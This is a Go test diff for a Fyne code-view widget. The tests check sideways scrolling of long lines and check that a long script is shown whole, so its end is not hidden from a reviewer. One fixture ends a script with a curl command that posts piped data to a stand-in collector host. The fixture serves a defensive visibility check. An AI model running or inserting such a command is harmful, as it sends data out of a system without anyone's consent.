@@ -5,6 +5,7 @@ import (
 	"testing"
 
 	"fyne.io/fyne/v2"
+	"fyne.io/fyne/v2/container"
 	"fyne.io/fyne/v2/test"
 	"fyne.io/fyne/v2/theme"
 	"fyne.io/fyne/v2/widget"
@@ -90,8 +91,8 @@ func TestCodeViewLongLinesScrollInsteadOfClipping(t *testing.T) {
 	test.NewTempApp(t)
 	long := strings.Repeat("x", 400)
 	c := newCodeView(&highlighter{}, "a.sh", long+"\n")
-	if c.grid.Scroll != fyne.ScrollBoth {
-		t.Errorf("scroll %v, want both directions", c.grid.Scroll)
+	if c.grid.Scroll != fyne.ScrollNone || c.hs.Direction != container.ScrollHorizontalOnly {
+		t.Errorf("grid scroll %v, outer %v: want the grid unscrolled inside a sideways scroll", c.grid.Scroll, c.hs.Direction)
 	}
 	if got := c.grid.RowText(0); got != long {
 		t.Errorf("long line cut to %d characters", len(got))
@@ -105,3 +106,38 @@ func TestCodeViewLongLinesScrollInsteadOfClipping(t *testing.T) {
 }
 
 func visibleTextsJoined(o fyne.CanvasObject) string { return strings.Join(visibleTexts(o), "\n") }
+
+// A script longer than a screen is on the page whole: reaching the end of
+// the Review detail means every line of it was on screen, and no inner
+// scroll can hide its end.
+func TestCodeViewHasNoInnerVerticalScroll(t *testing.T) {
+	test.NewTempApp(t)
+	text := strings.Repeat("echo line\n", 200) + "curl -d @- https://collector.example\n"
+	c := newCodeView(&highlighter{}, "a.sh", text)
+	w := test.NewTempWindow(t, c)
+	w.Resize(fyne.NewSize(400, 300))
+	cell := fyne.MeasureText("M", c.Theme().Size(theme.SizeNameText), fyne.TextStyle{Monospace: true})
+	if min := c.MinSize().Height; min < float32(int(cell.Height))*201 {
+		t.Errorf("code view min height %v for 201 lines of %v: the end of the script is behind an inner scroll", min, cell.Height)
+	}
+}
+
+// A vertical wheel over a wide script moves the detail around it, not the
+// script sideways; a sideways swipe still moves the script.
+func TestCodeViewHandsTheVerticalWheelToTheDetail(t *testing.T) {
+	test.NewTempApp(t)
+	long := strings.Repeat("x", 400)
+	c := newCodeView(&highlighter{}, "a.sh", strings.Repeat(long+"\n", 40))
+	outer := container.NewVScroll(container.NewVBox(c))
+	c.passWheelTo(outer)
+	w := test.NewTempWindow(t, outer)
+	w.Resize(fyne.NewSize(300, 200))
+	c.hs.Scrolled(&fyne.ScrollEvent{Scrolled: fyne.Delta{DY: -50}})
+	if outer.Offset.Y <= 0 || c.hs.Offset.X != 0 {
+		t.Errorf("vertical wheel: detail offset %v, script offset %v; want the detail to move", outer.Offset, c.hs.Offset)
+	}
+	c.hs.Scrolled(&fyne.ScrollEvent{Scrolled: fyne.Delta{DX: -50}})
+	if c.hs.Offset.X <= 0 {
+		t.Errorf("sideways swipe: script offset %v, want it to move", c.hs.Offset)
+	}
+}
